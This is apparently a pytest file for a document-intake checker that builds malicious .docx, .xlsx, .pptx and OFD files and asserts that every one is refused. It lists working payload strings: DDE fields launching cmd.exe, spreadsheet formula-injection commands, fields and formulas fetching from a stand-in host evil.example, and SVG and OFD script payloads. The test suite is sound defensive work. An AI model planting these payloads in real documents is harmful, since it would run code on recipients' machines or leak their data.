"""Office files and OFD that run, ask, import or fetch, looked into as the child process does: every one is refused."""

import pytest
from tests.intake import hostile

from yilan.intake.checks.process import main

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
DDE = "<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
CALC = "cmd|'/c calc'!A1"


def types(kind):
    return f'<Override PartName="/xl/part.xml" ContentType="{kind}"/>'


BAD = {
    "dde in runs": ("申请.docx", lambda: hostile.docx(hostile.field("D", "D", "E ", "cmd", None)), "active"),
    "dde spelled by fields": (
        "申请.docx",
        lambda: hostile.docx(hostile.field(("QUOTE 68 68 69 65 85 84 79", None), " c:\\\\cmd.exe", None)),
        "active",
    ),
    "half spelled": ("申请.docx", lambda: hostile.docx(hostile.field("DD", ("QUOTE 69",), " cmd", None)), "active"),
    "dde in a field": ("申请.docx", lambda: hostile.docx(hostile.field("IF 1=1 ", ("DDE cmd",), None)), "active"),
    "dde behind a result": ("申请.docx", lambda: hostile.docx(hostile.field("PAGE", None, ("DDE cmd",))), "active"),
    "dde that never ends": (
        "申请.docx",
        lambda: hostile.docx(hostile.field("DDE cmd").removesuffix(hostile.END)),
        "active",
    ),
    "dde around an element": ("申请.docx", lambda: hostile.docx(hostile.field("DD<x/>E cmd", None)), "active"),
    "deleted dde": (
        "申请.docx",
        lambda: hostile.docx("<w:p><w:delInstrText>DDE cmd</w:delInstrText></w:p>"),
        "active",
    ),
    "dde in a foot": (
        "申请.docx",
        lambda: hostile.docx(parts={"word/footer1.xml": f"<w:f xmlns:w='w'>{DDE}</w:f>"}),
        "active",
    ),
    "text of a share": (
        "申请.docx",
        lambda: hostile.docx(hostile.field(r'INCLUDETEXT "\\\\evil.example\\a"', None)),
        "active",
    ),
    "picture of a share": (
        "申请.docx",
        lambda: hostile.docx(hostile.field(r"INCLUDEPICTURE file://evil.example/a.png", None)),
        "active",
    ),
    "text of the web": (
        "申请.docx",
        lambda: hostile.docx(hostile.field("INCLUDETEXT http://evil.example/a", None)),
        "active",
    ),
    "data base": ("申请.docx", lambda: hostile.docx(hostile.field(r"DATABASE \d a", None)), "active"),
    "linked object": ("申请.docx", lambda: hostile.docx(hostile.field("LINK Excel.Sheet a.xlsx", None)), "embedded"),
    "mail merge from a share": (
        "申请.docx",
        lambda: hostile.docx(
            parts={"word/settings.xml": r'<w:s xmlns:w="w"><w:connectString w:val="Source=\\evil"/></w:s>'}
        ),
        "active",
    ),
    "picture from elsewhere": (
        "申请.docx",
        lambda: hostile.docx('<v:imagedata xmlns:v="v" src="http://evil.example/a"/>'),
        "active",
    ),
    "import": (
        "申请.docx",
        lambda: hostile.docx(
            parts={"word/_rels/document.xml.rels": hostile.relation("aFChunk"), "word/part.xml": "<a/>"}
        ),
        "embedded",
    ),
    "add-in of the web": (
        "申请.docx",
        lambda: hostile.docx(parts={"_rels/.rels": hostile.relation("webextensiontaskpanes")}),
        "active",
    ),
    "object as picture": ("申请.docx", lambda: hostile.docx(parts={"word/media/a.png": hostile.ole()}), "embedded"),
    "rtf as picture": ("申请.docx", lambda: hostile.docx(parts={"word/media/a.png": hostile.RTF}), "embedded"),
    "drawing with a script": ("申请.docx", lambda: hostile.docx(parts={"word/media/a.svg": SVG}), "active"),
    "drawing that loads": (
        "申请.docx",
        lambda: hostile.docx(parts={"word/media/a.svg": '<svg onload="alert(1)"/>'}),
        "active",
    ),
    "drawing from elsewhere": (
        "申请.docx",
        lambda: hostile.docx(parts={"word/media/a.svg": '<svg><rect fill="url(http://evil.example/a)"/></svg>'}),
        "active",
    ),
    "notes from elsewhere": (
        "表.xlsx",
        lambda: hostile.xlsx(parts={"xl/drawings/v.vml": '<xml><v:fill src="//evil.example/a"/><br></xml>'}),
        "active",
    ),
    "program in quotes": ("表.xlsx", lambda: hostile.xlsx("'cmd'|'/c calc'!A1"), "active"),
    "program and topic in quotes": ("表.xlsx", lambda: hostile.xlsx("'cmd|/c calc'!A1"), "active"),
    "plus": ("表.xlsx", lambda: hostile.xlsx("+cmd|'/c calc'!A1"), "active"),
    "minus": ("表.xlsx", lambda: hostile.xlsx("-2+3+cmd|'/c calc'!A1"), "active"),
    "at": ("表.xlsx", lambda: hostile.xlsx("@SUM(1+1)*cmd|'/c calc'!A1"), "active"),
    "equals": ("表.xlsx", lambda: hostile.xlsx("=MSEXCEL|'\\..\\cmd.exe /c calc'!''"), "active"),
    "quotes that do not fit": ("表.xlsx", lambda: hostile.xlsx("""cmd|'" '!A1&amp;"a\""""), "active"),
    "split command": ("表.xlsx", lambda: hostile.xlsx("cmd<x/>|'/c calc'!A1"), "active"),
    "sheet of another name": (
        "表.xlsx",
        lambda: hostile.xlsx("'cmd|a'!A1", {"xl/workbook.xml": '<w><sheets><sheet name="收入|支出"/></sheets></w>'}),
        "active",
    ),
    "command in a name": (
        "表.xlsx",
        lambda: hostile.xlsx(parts={"xl/workbook.xml": f"<w><definedName>{CALC}</definedName></w>"}),
        "active",
    ),
    "command in a check": ("表.xlsx", lambda: hostile.sheet_with(f"<formula1>{CALC}</formula1>"), "active"),
    "command in a table": (
        "表.xlsx",
        lambda: hostile.sheet_with(f"<calculatedColumnFormula>{CALC}</calculatedColumnFormula>"),
        "active",
    ),
    "fetching formula": ("表.xlsx", lambda: hostile.xlsx('_xlfn.WEBSERVICE("http://evil.example/")'), "active"),
    "other program's formula": ("表.xlsx", lambda: hostile.xlsx('RTD("a.b","","c")'), "active"),
    "data connection": (
        "表.xlsx",
        lambda: hostile.xlsx(types=types(f"{hostile.SPREADSHEET}.connections+xml")),
        "active",
    ),
    "macro sheet": (
        "表.xlsx",
        lambda: hostile.xlsx(types=types("application/vnd.ms-excel.macrosheet+xml")),
        "macros",
    ),
    "program when pointed at": (
        "稿.pptx",
        lambda: hostile.pptx('<a:hlinkMouseOver xmlns:a="a" action="ppaction://program"/>'),
        "active",
    ),
    "ofd that calls at opening": (
        "票.ofd",
        lambda: hostile.ofd(**{"Doc_0/a.xml": '<Action Event="DO"><URI URI="http://evil.example/"/></Action>'}),
        "active",
    ),
    "ofd with a script": (
        "票.ofd",
        lambda: hostile.ofd(**{"Doc_0/a.xml": '<Action Event="CLICK"><URI URI="javascript:alert(1)"/></Action>'}),
        "active",
    ),
}


@pytest.mark.parametrize(("name", "make", "code"), BAD.values(), ids=BAD)
def test_refused_for_what_it_would_do(tmp_path, name, make, code):
    path, out = tmp_path / "sent", tmp_path / "out"
    path.write_bytes(make())
    assert main(str(path), name.rpartition(".")[2], str(out)) == {"refused": code}
    assert not out.exists()
